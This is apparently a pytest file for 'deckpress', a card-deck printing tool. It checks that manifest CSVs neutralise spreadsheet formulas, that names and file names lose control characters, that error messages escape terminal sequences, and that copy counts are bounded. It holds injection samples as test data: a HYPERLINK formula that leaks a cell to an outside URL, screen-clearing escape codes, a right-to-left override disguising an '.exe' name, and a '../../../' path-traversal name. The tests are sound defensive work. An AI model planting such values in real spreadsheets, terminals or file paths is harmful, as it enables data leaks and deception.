"""Outputs safe to open and messages in one line (issue 32, items 4 and 6): a manifest a
spreadsheet reads as text, names and file names without controls, messages with controls shown
escaped and long values cut, no library's line on the terminal, and `impose` copies bounded."""

from __future__ import annotations

import csv
import io
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from PIL import Image

from deckpress.errors import MAX_MESSAGE, MAX_SHOWN, DeckError, DeckWarning, printable, said, shown
from deckpress.outputs.cardimages import cell, uncell
from deckpress.outputs.sides import Entry, file_stems, shown_name, slug
from tests.conftest import SIMPLE_DECK, SIMPLE_LAYOUT

HOSTILE = ['=HYPERLINK("http://example.com/?leak="&A1;"click")', "+2", "-1 card", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "שלום עולם", "evil\x1b[2J\x1b]0;pwned\x07name", "abc\u202etxt.exe",
           "\u2066isolated\u2069 \u200fmark\u200e \u061cletter"]


def cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """The command as a user runs it, in a process of its own: what reaches stderr is all there is."""
    return subprocess.run([sys.executable, "-m", "deckpress", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=120)


# --- manifest.csv: cells a spreadsheet reads as text ------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+2", "-1 card", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_a_cell_that_would_start_a_formula_is_written_after_an_apostrophe_and_read_back(text):
    assert cell(text) == "'" + text and uncell(cell(text)) == text


@pytest.mark.parametrize("text", ["Sunrise", "", "1 card", "'Twas", "E♭ Bass", "שלום", "a=b", "x-1"])
def test_other_cells_are_written_as_they_are(text):
    assert cell(text) == text and uncell(text) == text


def _hostile_deck(make_deck) -> Path:
    cards = "\n".join(f"      - {{title: {_yaml(name)}}}" for name in HOSTILE)
    deck = SIMPLE_DECK.replace("""          - {title: One, count: 2}
          - {title: Two, color: blue}""", cards.replace("      - ", "          - "))
    return make_deck(deck, {"simple": SIMPLE_LAYOUT})


def _yaml(text: str) -> str:
    """A YAML double-quoted scalar of `text`, every control escaped."""
    return '"' + "".join(c if c.isprintable() and c not in '"\\' else f"\\u{ord(c):04x}" for c in text) + '"'


def test_the_manifest_writes_hostile_names_as_text_without_controls_and_files_as_plain_slugs(make_deck, tmp_path):
    """Names that begin a formula get OWASP's apostrophe; controls (ESC, bidi overrides, isolates,
    marks) are dropped from the name column and never reach a file name; Hebrew stays Hebrew."""
    import deckpress

    folder = _hostile_deck(make_deck)
    deckpress.build([str(folder)], tmp_path, papers=("a4",), formats=("png",), dpi=30)
    manifest = (tmp_path / "simple" / "png" / "manifest.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(manifest)))
    names = [row["name"] for row in rows]
    assert names == ['\'=HYPERLINK("http://example.com/?leak="&A1;"click")', "'+2", "'-1 card", "'@SUM(A1:A9)",
                     "'=1+1", "'=1+1", "שלום עולם", "evil[2J]0;pwnedname", "abctxt.exe",
                     "isolated mark letter"]
    for row in rows:  # no cell a spreadsheet would run, none with a control
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert printable(value) == value, value
    files = [path.name for path in (tmp_path / "simple" / "png").iterdir()]
    assert all(name.isascii() and name.isprintable() for name in files), files
    assert "things-07-front.png" in files  # the Hebrew card: named by its component and number alone
    assert "things-02-plus-2-front.png" in files and "things-03-1-card-front.png" in files
    # built again without the formula card: its stale file is found through its manifest row and removed
    (folder / "deck.yaml").write_text((folder / "deck.yaml").read_text(encoding="utf-8").replace(
        '{title: "=HYPERLINK', '{title: "x=HYPERLINK'), encoding="utf-8")
    deckpress.build([str(folder)], tmp_path, papers=("a4",), formats=("png",), dpi=30)
    after = {path.name for path in (tmp_path / "simple" / "png").iterdir()}
    assert not any(name.startswith("things-01-hyperlink") for name in after), after


def test_a_component_named_like_a_path_writes_its_images_inside_the_output_folder(make_deck, tmp_path):
    """A component's name went into its card images' file names as it was: `../../../x` wrote them
    outside the output folder, U+202E turned the file names around."""
    import deckpress

    folder = make_deck(SIMPLE_DECK.replace("- name: things", '- name: "../../../esc\\u202eape"'),
                       {"simple": SIMPLE_LAYOUT})
    out = tmp_path / "out"
    deckpress.build([str(folder)], out, papers=("a4",), formats=("png", "svg", "tts"), dpi=30)
    written = [path for path in tmp_path.rglob("*") if path.is_file() and "deck" not in path.relative_to(tmp_path).parts]
    assert written and all(path.is_relative_to(out / "simple") for path in written), written
    assert all(path.name.isascii() and path.name.isprintable() for path in written)
    assert (out / "simple" / "png" / "escape-01-one-front.png").is_file()


def test_names_lose_controls_and_keep_their_script():
    assert shown_name("abc\u202etxt.exe") == "abctxt.exe"
    assert shown_name("\x1b[31mRed\x1b[0m") == "[31mRed[0m"
    assert shown_name("שלום עולם") == "שלום עולם" and shown_name("E♭ Bass") == "E♭ Bass"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_slug_is_printable_ascii_whatever_the_name(name):
    made = slug(name)
    assert made.isascii() and made.isprintable() and "/" not in made and not made.startswith(("-", "."))


def test_entries_and_their_file_stems_carry_no_controls():
    from deckpress.face import Face, Rect

    face = Face(63.5, 88.9, 3.0, (Rect(0, 0, 1, 1),))
    entries = [Entry("cards", 1, "a\u202eb\x1bc", 1, face, None)]
    assert entries[0].name == "ab" + "c"
    assert all(printable(stem) == stem for stem in file_stems(entries).values())


# --- messages: controls escaped, values cut ---------------------------------------------------

def test_a_message_shows_controls_as_escapes_and_keeps_right_to_left_text():
    error = DeckError("unknown font 'x\x1b[2Jy\u202ez'\nsecond line; 'שלום' is fine", "de\u202eck.yaml", 3)
    assert str(error) == "de\\u202eck.yaml:3: unknown font 'x\\x1b[2Jy\\u202ez'\\nsecond line; 'שלום' is fine"
    assert error.message.startswith("unknown font 'x\x1b")  # what the program reads is left as it was
    warning = DeckWarning("deck.yaml", 4, "art", "art 'a\tb\u2066c' says \x9b31m")
    assert str(warning) == "deck.yaml:4: art 'a\\tb\\u2066c' says \\x9b31m"


def test_a_long_value_is_cut_to_eighty_characters_and_a_long_message_to_its_limit():
    value = "x" * 100_000 + "\n" * 10
    error = DeckError(f"unknown key '{value}' in card", "deck.yaml", 5, suggestion="y" * 500)
    text = str(error)
    quoted = text.split("'")[1]
    assert len(quoted) == MAX_SHOWN and quoted.endswith("…")
    assert text.endswith("in card — did you mean '" + "y" * (MAX_SHOWN - 1) + "…'?")
    listed = DeckError("no sheet 'Cards'; the sheets are " + ", ".join(f"Sheet{n}" for n in range(100_000)))
    assert len(str(listed)) == MAX_MESSAGE and str(listed).endswith("…")
    assert said(said(text)) == said(text)  # a message quoted into another is said the same
    assert len(shown("\x00" * 200)) <= MAX_SHOWN and not shown("\x00" * 200)[:-1].endswith("\\x0")  # never mid-escape


def test_a_value_that_opens_many_quotes_and_closes_none_is_said_at_once():
    """Looking for each opening quote's closing one anew took minutes over 100,000 characters."""
    import time

    for value in ("'a " * 33_000, '"a ' * 33_000, "'" * 100_000, " '" * 50_000):
        started = time.perf_counter()
        text = str(DeckError(f"unknown key {value} in card", "deck.yaml", 3))
        assert time.perf_counter() - started < 5 and len(text) <= len("deck.yaml:3: ") + MAX_MESSAGE


def test_possessives_and_apostrophes_are_not_taken_for_quotes():
    message = "the deck's cards say 'Don't' and the players' names 'A', \"B's\""
    assert said(message) == message


def test_a_value_with_newlines_and_escapes_is_one_line_on_the_terminal(make_deck):
    card = 'card: "pok\\ner\\u001b[2J\\u202e"'  # a newline, ESC [2J (clear the screen), a right-to-left override
    folder = make_deck(SIMPLE_DECK.replace("layouts: [simple]", f"layouts: [simple]\n    {card}"),
                       {"simple": SIMPLE_LAYOUT})
    proc = cli("check", str(folder))
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.count("\n") == 1 and proc.stderr.startswith("error: "), proc.stderr
    assert "\x1b" not in proc.stderr and "\u202e" not in proc.stderr
    assert "pok\\ner\\x1b[2J\\u202e" in proc.stderr, proc.stderr


# --- one line: no library's log lines or warnings ---------------------------------------------

def _exif_jpeg(path: Path) -> Path:
    """A JPEG whose EXIF block is cut short: Pillow warns "Corrupt EXIF data" when it reads it."""
    exif = b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x05\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06"
    Image.new("RGB", (400, 560), "red").save(path, "JPEG", exif=exif)
    return path


def _png_of_bad_data(path: Path) -> Path:
    """A PNG whose chunks and checksums are whole, with pixel data that is no deflate stream:
    checked clean, found broken when the build decodes it."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 400, 560, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"\x78\x9c" + b"\xff" * 500)
                     + chunk(b"IEND", b""))
    return path


def test_a_bad_picture_is_one_error_line_without_pillows_warnings(tmp_path):
    """Pillow warned "Corrupt EXIF data" about the first picture in two lines of its own before
    deckpress's error about the second."""
    proc = cli("impose", str(_exif_jpeg(tmp_path / "a.jpg")), str(_png_of_bad_data(tmp_path / "b.png")),
               "--paper", "a4", "--out", str(tmp_path / "out"))
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and proc.stderr.startswith("error: "), proc.stderr
    assert "b.png" in proc.stderr and "cannot be read" in proc.stderr


def _font_with_cmap_past_unicode(path: Path) -> Path:
    """Noto Sans whose character map has a format-12 group reaching past U+10FFFF: fontTools logs
    "group ranges beyond U+10FFFF were truncated" when it reads it (for SVG)."""
    from fontTools.ttLib import TTFont
    from fontTools.ttLib.tables.DefaultTable import DefaultTable

    from deckpress.bundled import FONTS_DIR

    font = TTFont(str(FONTS_DIR / "NotoSans-Regular.ttf"))
    groups = [(0x20, 0x7E, font.getGlyphID("space")), (0x10FFF0, 0x11000F, 1)]
    subtable = struct.pack(">HHIII", 12, 0, 16 + 12 * len(groups), 0, len(groups)) \
        + b"".join(struct.pack(">III", *group) for group in groups)
    table = DefaultTable("cmap")
    table.data = struct.pack(">HHHHI", 0, 1, 3, 10, 12) + subtable
    font["cmap"] = table
    font.save(str(path))
    return path


def test_decks_with_bad_fonts_and_pictures_print_only_deckpress_lines(make_deck, tmp_path):
    """A font fontTools complains about (now refused when the deck is read: its map reaches past
    Unicode), then a picture that breaks mid-build: stderr holds the one `error:` line each time;
    with both fixed, the build (a JPEG whose EXIF Pillow warns about) says nothing on stderr at all."""
    font = _font_with_cmap_past_unicode(tmp_path / "Odd.ttf").read_bytes()
    bad, good = _png_of_bad_data(tmp_path / "bad.png").read_bytes(), _exif_jpeg(tmp_path / "e.jpg").read_bytes()
    layout = SIMPLE_LAYOUT.replace("size: 12pt}", "size: 12pt, font: odd}\n          - image: {src: \"{art}\", "
                                   "x: 5mm, y: 30mm, w: 30mm, h: 42mm, fit: stretch}").replace(
        "fields: {title: ~, color: red}", "fields: {title: ~, color: red, art: art/e.jpg}")
    deck = SIMPLE_DECK.replace("layouts:", "fonts: {odd: {regular: fonts/Odd.ttf}}\n    layouts:").replace(
        "{title: Two, color: blue}", "{title: Two, color: blue, art: art/pic.png}")
    folder = make_deck(deck, {"simple": layout}, {"fonts/Odd.ttf": font, "art/pic.png": bad, "art/e.jpg": good})
    build = ("build", str(folder), "--paper", "a4", "--ink", "color", "--format", "svg,pdf", "--out",
             str(tmp_path / "out"))
    proc = cli(*build)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and proc.stderr.startswith("error: "), proc.stderr
    assert "Odd.ttf has a damaged character map" in proc.stderr
    from deckpress.bundled import FONTS_DIR
    (folder / "fonts" / "Odd.ttf").write_bytes((FONTS_DIR / "NotoSans-Regular.ttf").read_bytes())
    proc = cli(*build)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and proc.stderr.startswith("error: "), proc.stderr
    (folder / "art" / "pic.png").write_bytes(good)
    proc = cli(*build)
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr


# --- impose: copies from a file's name bounded like a deck's count -----------------------------

def test_copies_in_a_file_name_are_bounded_like_a_cards_count(tmp_path):
    from deckpress.builder.images import copies
    from deckpress.model.keys import MAX_COUNT

    assert copies(Path(f"goblin x{MAX_COUNT}.png")) == ("goblin", MAX_COUNT)
    with pytest.raises(DeckError, match="x1000000000 in the file name is 1,000,000,000 copies, too many: "
                                        "one card is printed at most 1,000 times"):
        copies(Path("goblin x1000000000.png"))
    picture = tmp_path / "card x1000000000.png"
    Image.new("RGB", (69, 95), "white").save(picture)
    proc = cli("impose", str(picture), "--paper", "a4", "--out", str(tmp_path / "out"))
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1, proc.stderr
    assert proc.stderr.startswith("error: ") and "at most 1,000 times" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_the_cards_of_all_pictures_are_bounded_like_a_decks_pieces(tmp_path):
    for n in range(11):
        Image.new("RGB", (69, 95), "white").save(tmp_path / f"card{n} x1000.png")
    proc = cli("impose", str(tmp_path), "--paper", "a4", "--out", str(tmp_path / "out"))
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1, proc.stderr
    assert "the pictures make 11,000 cards with their copies: at most 10,000 are imposed at once" in proc.stderr
